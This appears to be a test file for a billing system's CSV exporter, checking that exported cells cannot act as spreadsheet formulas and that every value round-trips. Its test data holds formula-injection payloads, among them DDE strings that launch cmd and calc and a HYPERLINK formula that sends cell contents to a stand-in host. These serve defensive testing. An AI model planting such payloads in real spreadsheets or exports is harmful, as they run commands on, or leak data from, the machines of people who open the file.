/** Tables as text: whatever is in a cell comes out of it again, and nothing in it is a formula. */
import fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import type { BillingItem } from '../../src/domain/billing-item.ts'
import { billingColumns } from '../../src/http/billing-columns.ts'
import { csv } from '../../src/http/csv.ts'

type Row = readonly (string | number | undefined)[]
const columns = ['a', 'b', 'c'].map((name, i) => [name, (row: Row) => row[i]] as const)

/** RFC 4180, read. */
function parse(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let at = 0
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      for (at++; !(text[at] === '"' && text[at + 1] !== '"'); at++) {
        cell += text[at]
        if (text[at] === '"') at++
      }
      at++
    } else while (text[at] !== ',' && text[at] !== '\r') cell += text[at++]
    row.push(cell)
    if (text[at] === ',') at++
    else {
      expect(text.slice(at, at + 2)).toBe('\r\n')
      at += 2
      rows.push(row)
      row = []
    }
  }
  return rows
}

/** Without the apostrophe that kept it from being a formula. */
const asSaid = (cell: string): string => (/^'+[\s\0\u200b\ufeff]*[=+\-@＝＋－＠]|^'+[\t\r\n]/.test(cell) ? cell.slice(1) : cell)
/** As a program takes it that leaves out what is blank. */
const isFormula = (cell: string): boolean =>
  /^[=+\-@＝＋－＠]/.test(cell.replace(/^[\s\0\u200b\ufeff]+/, '')) || /^[\t\r\n]/.test(cell)

const commands = [
  '1+1',
  "cmd|'/c calc'!A0",
  'HYPERLINK("http://x.example?"&A1,"x")',
  'SUM(A1:A9)*cmd|a!A0',
  'DDE("cmd";"/c";"x")',
]
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '==',
  "'=",
  "''=",
  ' =',
  '\t=',
  '\r=',
  '\n=',
  '\r\n=',
  '\0=',
  '\ufeff=',
  '\u200b=',
  '\u00a0=',
]
const payloads = [
  ...beginnings.flatMap((beginning) => commands.map((command) => beginning + command)),
  ...commands.flatMap((command) =>
    ['x,=', 'x;=', 'x"=', '",=', '"=', 'x\r\n=', 'x\t=', '"\n=', "'"].map((before) => before + command),
  ),
  ...['\t', '\r', '\n', "'", "'\t", '-', '=', '"', '""', ',', ';', '-12.30', '+49 30 1234', "O'Brien", "'t Hooft"],
]

describe('the billing feed as a table', () => {
  const item = (text: string): BillingItem => {
    const place = { lines: [text], city: text, state: text, postalCode: text }
    const person = {
      id: text,
      family: text,
      given: text,
      npi: text,
      taxonomy: text,
      birthDate: text,
      gender: text,
      address: place,
    }
    const house = { ...person, name: text, taxId: text, identifiers: [{ value: text }] }
    const coverage = {
      ...house,
      kind: text,
      memberId: text,
      subscriberId: text,
      relationship: text,
      groupNumber: text,
      planName: text,
    }
    const one = Object.fromEntries(
      billingColumns.map(([name]) => [name.replaceAll(/_(.)/g, (_, letter) => letter.toUpperCase()), text]),
    )
    return {
      ...one,
      ...{ modifiers: [text, text, text, text], diagnoses: [text], pointers: [1], charge: { amount: text, currency: text } },
      ...{ adjudication: { status: text, paid: { amount: text }, reasonCodes: [text] }, warnings: [text], checks: [] },
      ...{ client: person, renderer: person, supervising: person, facility: house, billingProvider: house },
      ...{ coverage: { ...coverage, payer: house, subscriber: person }, otherCoverages: [house] },
      ...{ referral: { id: text, number: text, referring: person }, authorization: { id: text, item: text, number: text } },
    } as unknown as BillingItem
  }

  it('has no column in which anything is a formula, and says in each what was said', () => {
    expect(payloads.length).toBeGreaterThan(150)
    for (const text of payloads) {
      const [names, cells] = parse(csv(billingColumns, [item(text)]))
      expect(names).toEqual(billingColumns.map(([name]) => name))
      expect(cells!.filter(isFormula), JSON.stringify(text)).toEqual([])
      const said = cells!.map(asSaid)
      expect(said.filter((cell) => cell !== text && cell !== '' && cell !== '1')).toEqual([])
      expect(said.filter((cell) => cell === text).length).toBeGreaterThan(70)
    }
  })
})

describe('csv', () => {
  it('has a header, and one line per item', () => {
    expect(csv(columns, [['x', 2, undefined]])).toBe('a,b,c\r\nx,2,\r\n')
    expect(csv(columns, [])).toBe('a,b,c\r\n')
  })

  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1+1'])('keeps %j from being a formula', (text) => {
    expect(parse(csv(columns, [[text, '', '']]))[1]![0]).toBe(`'${text}`)
  })

  it('leaves numbers alone', () => {
    expect(csv(columns, [[-1, 0, 2.5]])).toBe('a,b,c\r\n-1,0,2.5\r\n')
  })

  it('says what was said, and nothing of it is a formula', () => {
    const sign = fc.constantFrom("'", ' ', '=', '+', '\t', '\r', '\n', '\0', ',', ';', '"', 'a', '\ufeff')
    const cell = fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: sign }))
    const rows = fc.array(fc.tuple(cell, cell, cell))
    fc.assert(
      fc.property(rows, (items) => {
        const cells = parse(csv(columns, items)).slice(1)
        expect(cells.map((row) => row.map(asSaid))).toEqual(items)
        expect(cells.flat().filter(isFormula)).toEqual([])
      }),
    )
  })
})
